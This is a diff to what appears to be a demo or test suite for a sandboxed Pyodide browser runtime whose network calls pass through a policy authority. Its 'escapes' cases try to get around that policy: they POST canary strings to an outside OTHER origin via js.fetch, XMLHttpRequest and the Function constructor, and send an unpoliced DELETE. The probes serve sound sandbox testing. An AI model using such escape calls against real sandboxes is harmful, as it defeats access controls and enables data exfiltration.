@@ -169,7 +169,7 @@ except asyncio.CancelledError:
   {
     id: "escapes",
     title: "Ambient escape attempts",
-    note: "None of these go through cx.fetch, so the decision log stays empty: only the counters tell. Worker mode: all four are blocked (the network globals are gone, the worker CSP stops the Function constructor) and no counter moves. Page mode is not a sandbox: js.fetch to api with DELETE reaches the server around the policy; js.fetch and pyfetch to OTHER are stopped only by this page's CSP.",
+    note: "None of these go through the authority, so the decision log stays empty: only the counters tell. Worker mode: all four are blocked (the network globals are gone, the worker CSP stops the Function constructor) and no counter moves. Page mode is not a sandbox: js.fetch to api with DELETE reaches the server around the policy; js.fetch and XMLHttpRequest to OTHER are stopped only by this page's CSP.",
     code: `# Code that ignores cx.fetch and reaches for the browser's own network.
 import inspect
 import js
@@ -183,18 +183,51 @@ async def escape(action):
     except Exception as e:
         return f"blocked: {type(e).__name__}: {str(e)[:90]}"
 
-async def via_pyfetch():
-    from pyodide.http import pyfetch
-    return await pyfetch(f"{OTHER}/pyfetch", method="POST", body="canary-d3m0-pyfetch")
+async def via_xhr():
+    import asyncio
+    from pyodide.ffi import create_proxy
+    done = asyncio.get_running_loop().create_future()
+    xhr = js.XMLHttpRequest.new()
+    on_load = create_proxy(lambda event: done.set_result(xhr))
+    on_error = create_proxy(lambda event: done.set_exception(OSError("XMLHttpRequest network error")))
+    xhr.onload, xhr.onerror = on_load, on_error
+    xhr.open("POST", f"{OTHER}/xhr")
+    xhr.send("canary-d3m0-xhr")
+    try:
+        return await done
+    finally:
+        on_load.destroy()
+        on_error.destroy()
 
 {
     "js.fetch(OTHER)": await escape(
         lambda: js.fetch(f"{OTHER}/js-fetch", method="POST", body="canary-d3m0-exfil")),
     "js.fetch(API, DELETE)": await escape(
         lambda: js.fetch(f"{API}/items/1", method="DELETE")),
-    "pyodide.http.pyfetch(OTHER)": await escape(via_pyfetch),
+    "XMLHttpRequest(OTHER)": await escape(via_xhr),
     "Function constructor": await escape(
         lambda: js.Object.constructor(f"return fetch('{OTHER}/function')")()),
+}`,
+  },
+  {
+    id: "existing-http",
+    title: "Existing HTTP code: pyfetch",
+    note: "Code written for Pyodide, not for browser_rt. Inside the runtime pyodide.http.pyfetch goes through the same authority as cx.fetch, in both modes: one allow row, then method_denied and origin_denied, raised as FetchDenied. Only the api counter moves, once.",
+    code: `# pyodide.http.pyfetch, unchanged: browser_rt sends it through the current task's authority.
+from pyodide.http import pyfetch
+
+async def outcome(url, **options):
+    try:
+        r = await pyfetch(url, **options)
+    except FetchDenied as e:
+        return f"FetchDenied: {e.reason}"
+    return f"{r.status} {r.status_text}"
+
+{
+    "pyfetch(API/items)": await outcome(f"{API}/items"),
+    "pyfetch(API, DELETE)": await outcome(f"{API}/items/1", method="DELETE"),
+    "pyfetch(OTHER, POST)": await outcome(
+        f"{OTHER}/pyfetch", method="POST", body="canary-d3m0-pyfetch"),
 }`,
   },
   {
